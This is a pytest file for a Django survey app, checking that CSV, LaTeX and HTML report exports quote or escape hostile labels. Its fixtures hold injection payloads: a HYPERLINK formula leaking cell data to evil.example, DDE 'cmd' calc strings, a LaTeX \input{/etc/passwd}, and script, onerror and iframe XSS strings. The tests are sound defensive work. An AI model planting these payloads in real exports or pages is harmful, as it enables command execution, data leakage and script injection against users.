"""Exports safe to open: CSV cells that a spreadsheet would run as formulas are quoted (numbers
stay numbers), HTML is escaped, LaTeX special characters are escaped. Labels, rater ids and
item keys come from CSV files and crowd platforms: anyone can choose them."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from surveys import reports
from surveys.imports import responses_import
from surveys.models import Survey
from surveys.reports.cells import csv_safe, csv_safe_frame
from tests.surveys.conftest import csv_bytes

pytestmark = pytest.mark.django_db

HOSTILE = {
    "rater": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "item": "+cmd|' /C calc'!A0",
    "model_1": "-2+3+cmd|' /C calc'!A0",
    "model_2": "@SUM(1+1)*cmd|' /C calc'!A0",
}
LATEX_MODEL = r"\input{/etc/passwd} & 50% $x$ #1 a_b {c} ~d ^e"
LATEX_ESCAPED = (
    r"\textbackslash{}input\{/etc/passwd\} \& 50\% \$x\$ \#1 a\_b \{c\} "
    r"\textasciitilde{}d \textasciicircum{}e"
)


def hostile_survey(name: str = "hostile", models=None) -> Survey:
    model_1, model_2 = models or (HOSTILE["model_1"], HOSTILE["model_2"])
    header = ["rater", "item", "model_1", "model_2", "winner", "response_ms"]
    rows = [
        [HOSTILE["rater"], HOSTILE["item"], model_1, model_2, model_1, 1200],
        ["\tr2", "@i2", model_1, model_2, model_2, 900],
        ["r3", "i3", model_1, model_2, "discard", 700],
    ]
    responses_import(survey_name=name, kind="pairwise", file=csv_bytes(header, rows))
    return Survey.objects.get(name=name)


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("VAE (annealing)", "VAE (annealing)"),
        ("a=b", "a=b"),
        ("", ""),
        (-0.12, -0.12),
        (-3, -3),
        (None, None),
    ],
)
def test_only_text_that_starts_like_a_formula_is_quoted(value, safe):
    assert csv_safe(value) == safe


def test_raw_answers_quote_every_formula_and_keep_numbers(db):
    survey = hostile_survey()
    rows = list(csv.reader(io.StringIO("".join(reports.answers_lines(survey)))))
    header, body = rows[0], rows[1:]
    assert len(body) == 3
    for row in body:
        cells = dict(zip(header, row, strict=True))
        for name in ("rater", "item", "model_1", "model_2", "winner", "left"):
            assert not cells[name].startswith(("=", "+", "-", "@", "\t", "\r")), cells
        assert cells["response"].isdigit() and cells["response_ms"].isdigit()
    first = dict(zip(header, body[0], strict=True))
    assert first["rater"] == "'" + HOSTILE["rater"]
    assert first["item"] == "'" + HOSTILE["item"]
    assert first["model_1"] == "'" + HOSTILE["model_1"]
    assert first["winner"] == "'" + HOSTILE["model_1"]


def test_the_report_csv_quotes_labels_and_keeps_negative_numbers_numeric(db):
    report = reports.report_build(survey=hostile_survey())
    report.table["pct_1"] = -0.12  # a numeric column with a negative number
    frame = pd.read_csv(io.StringIO(reports.render(report, "csv")))
    assert frame.loc[0, "model_1"] == "'" + HOSTILE["model_1"]
    assert frame.loc[0, "model_2"] == "'" + HOSTILE["model_2"]
    assert frame.loc[0, "pct_1"] == -0.12  # read back as a number, not text
    assert pd.api.types.is_numeric_dtype(frame["pct_1"])
    assert pd.api.types.is_integer_dtype(frame["n"])


def test_csv_safe_frame_leaves_the_report_itself_alone(db):
    report = reports.report_build(survey=hostile_survey())
    csv_safe_frame(report.table)
    assert report.table.loc[0, "model_1"] == HOSTILE["model_1"]


def test_latex_escapes_every_special_character_of_labels_and_question(db):
    survey = hostile_survey("latex", models=(LATEX_MODEL, "plain"))
    survey.question = r"Which is better? 100% \& $$ _ # {}"
    survey.save(update_fields=["question"])
    latex = reports.report_latex(reports.report_build(survey=survey))
    assert LATEX_ESCAPED in latex
    assert r"\input{" not in latex
    assert r"100\% \textbackslash{}\& \$\$ \_ \# \{\}" in latex


def test_html_escapes_labels_question_and_name(db):
    attack = '"><img src=x onerror=alert(1)>'
    survey = hostile_survey("<script>alert(1)</script>", models=(attack, "plain"))
    survey.question = "<iframe src=//evil.example>"
    survey.save(update_fields=["question"])
    html = reports.report_html(reports.report_build(survey=survey))
    for raw in ("<img src=x", "<script>alert", "<iframe"):
        assert raw not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
